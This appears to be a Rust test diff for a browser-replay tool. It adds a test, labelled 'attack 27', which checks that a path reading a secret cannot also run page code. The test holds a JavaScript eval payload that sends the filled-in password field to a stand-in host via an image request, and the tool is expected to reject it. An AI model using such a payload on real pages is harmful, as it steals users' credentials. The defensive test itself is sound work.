@@ -185,9 +185,45 @@ fn an_edge_flow_declares_every_secret_its_templates_read() {
         { "fill": { "target": "#d", "value": "{{ secrets['QUOTED'] }}" } },
         { "fill": { "target": "#e", "value": "secrets.NOT_A_TEMPLATE" } },
     ]);
-    let text = serde_json::to_string(&steps).unwrap();
     assert_eq!(
-        super::referenced_secrets(&text),
+        super::referenced_secrets(&steps),
         ["LOWER", "PLAIN", "QUOTED", "SLICE"]
+    );
+}
+
+/// D2 (attack 27): the steps a replay runs are the whole path, edge after edge in one page: an
+/// `eval` of one edge reads what an earlier edge (or the root's entry) typed, so a path that
+/// reads a secret anywhere holds no page code anywhere.
+#[test]
+fn a_path_that_reads_a_secret_holds_no_page_code_on_any_of_its_edges() {
+    let d = tempfile::tempdir().unwrap();
+    let mut a = Atlas::open(d.path()).unwrap();
+    a.reach.secrets = vec!["PW".into()];
+    a.ensure_state(&state("00000000000000a1", "http://h/", "run1"))
+        .unwrap();
+    node(&a, "00000000000000a2");
+    a.set_entry(
+        "00000000000000a1",
+        &[
+            json!({"open": "http://h/"}),
+            json!({"fill": {"target": "#pw", "value": "{{ secrets.PW }}"}}),
+        ],
+    )
+    .unwrap();
+    a.link_state(
+        "00000000000000a1",
+        "go",
+        "00000000000000a2",
+        &[json!({"eval": "new Image().src = '//x/?' + document.querySelector('#pw').value; 1"})],
+    )
+    .unwrap();
+    let e = a
+        .steps_by_state("00000000000000a2")
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.contains("meta.json: step 2 (`fill`) reads the secret `PW`, and ")
+            && e.contains("flow.yaml: step 1 (`eval`) runs code in the page"),
+        "{e}"
     );
 }
